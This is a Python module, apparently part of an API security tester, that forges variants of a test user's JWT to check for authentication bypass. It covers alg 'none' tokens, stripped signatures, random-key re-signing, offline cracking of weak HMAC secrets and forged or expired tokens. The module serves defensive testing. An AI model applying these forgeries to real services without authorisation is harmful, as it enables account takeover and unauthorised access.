"""JWT attacks of AUTH_BYPASS: forged variants of the test user's own bearer token.

A request of a test may carry ``jwtAttack`` (one of :data:`ATTACKS`): after its
placeholders are resolved, the runner replaces the credential header's token
(``Bearer <jwt>``; the scheme word is kept) by the forged variant from
:func:`forge`. A variant that cannot be made is not sent: the request is skipped
with the reason (the token is no JWT; no weak secret signs it, so neither a
weak-secret nor an expired token can be re-signed). Nothing here sends
anything; the weak-secret search is offline (HMAC of the token's own signing
input with each secret of ``data/weak_jwt_secrets.txt``).
"""
from __future__ import annotations

import base64
import binascii
import functools
import hashlib
import hmac
import json
import secrets
import time
from dataclasses import dataclass
from pathlib import Path

SECRETS_FILE = Path(__file__).parent / "data" / "weak_jwt_secrets.txt"
HMAC_ALGORITHMS = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
FORGED_CLAIM = "apiscope_forged"
ATTACKS = ("none", "stripped", "otherKey", "weakSecret", "expired")


@dataclass(frozen=True)
class Token:
    header: dict
    claims: dict
    signing_input: str
    signature: bytes

    @property
    def alg(self) -> str:
        return str(self.header.get("alg", ""))


@dataclass(frozen=True)
class Forged:
    """A forged credential value and what sending it tests, or why it cannot be made."""

    value: str | None
    description: str


def b64url_encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _json_part(text: str) -> dict | None:
    try:
        value = json.loads(b64url_decode(text))
    except (ValueError, binascii.Error):
        return None
    return value if isinstance(value, dict) else None


def parse(token: str) -> Token | None:
    """The decoded JWS (compact form), or None when ``token`` is not one."""
    parts = token.strip().split(".")
    if len(parts) != 3:
        return None
    header, claims = _json_part(parts[0]), _json_part(parts[1])
    if header is None or claims is None or "alg" not in header:
        return None
    try:
        signature = b64url_decode(parts[2])
    except (ValueError, binascii.Error):
        return None
    return Token(header, claims, f"{parts[0]}.{parts[1]}", signature)


def encode(header: dict, claims: dict, key: bytes | None) -> str:
    """A compact JWS of header and claims, HMAC-signed with ``key`` (no signature when None)."""
    signing_input = (b64url_encode(json.dumps(header, separators=(",", ":")).encode())
                     + "." + b64url_encode(json.dumps(claims, separators=(",", ":")).encode()))
    if key is None:
        return signing_input + "."
    digest = HMAC_ALGORITHMS.get(str(header.get("alg")), hashlib.sha256)
    return signing_input + "." + b64url_encode(hmac.new(key, signing_input.encode(), digest).digest())


@functools.lru_cache(maxsize=1)
def weak_secrets() -> tuple[str, ...]:
    lines = SECRETS_FILE.read_text(encoding="utf-8").splitlines()
    return tuple(line for line in lines if line and not line.startswith("#"))


@functools.lru_cache(maxsize=64)
def crack(token: str) -> str | None:
    """The weak secret that signs ``token`` (HS256/384/512), or None."""
    parsed = parse(token)
    if parsed is None or parsed.alg not in HMAC_ALGORITHMS:
        return None
    digest = HMAC_ALGORITHMS[parsed.alg]
    for secret in weak_secrets():
        expected = hmac.new(secret.encode(), parsed.signing_input.encode(), digest).digest()
        if hmac.compare_digest(expected, parsed.signature):
            return secret
    return None


def _split_scheme(credential: str) -> tuple[str, str]:
    scheme, _, rest = credential.strip().partition(" ")
    return (scheme + " ", rest.strip()) if rest else ("", scheme)


def forge(attack: str, credential: str, now: float | None = None) -> Forged:
    """The credential header value ``credential`` (``Bearer <jwt>``) turned into the attack's token."""
    scheme, raw = _split_scheme(credential)
    token = parse(raw)
    if token is None:
        return Forged(None, "the test user's token is not a JWT")
    now = time.time() if now is None else now
    if attack == "none":
        return Forged(scheme + encode({**token.header, "alg": "none"}, token.claims, None),
                      "the test user's JWT with alg 'none' and no signature")
    if attack == "stripped":
        return Forged(scheme + token.signing_input + ".", f"the test user's JWT ({token.alg}) with its signature removed")
    if attack == "otherKey":
        header = token.header if token.alg in HMAC_ALGORITHMS else {**token.header, "alg": "HS256"}
        return Forged(scheme + encode(header, token.claims, secrets.token_bytes(32)),
                      "the test user's claims signed with another (random) key")
    if attack not in ("weakSecret", "expired"):
        return Forged(None, f"unknown JWT attack {attack!r}")
    secret = crack(raw)
    if secret is None:
        return Forged(None, f"no weak secret of the bundled list ({len(weak_secrets())}) signs the test user's JWT")
    if attack == "weakSecret":
        claims = {**token.claims, FORGED_CLAIM: True, "iat": int(now), "exp": int(now) + 3600}
        return Forged(scheme + encode(token.header, claims, secret.encode()),
                      f"a token forged with the weak secret {secret!r} (found offline; claims changed)")
    claims = {**token.claims, "iat": int(now) - 7200, "exp": int(now) - 3600}
    return Forged(scheme + encode(token.header, claims, secret.encode()),
                  f"a token expired an hour ago, re-signed with the weak secret {secret!r}")
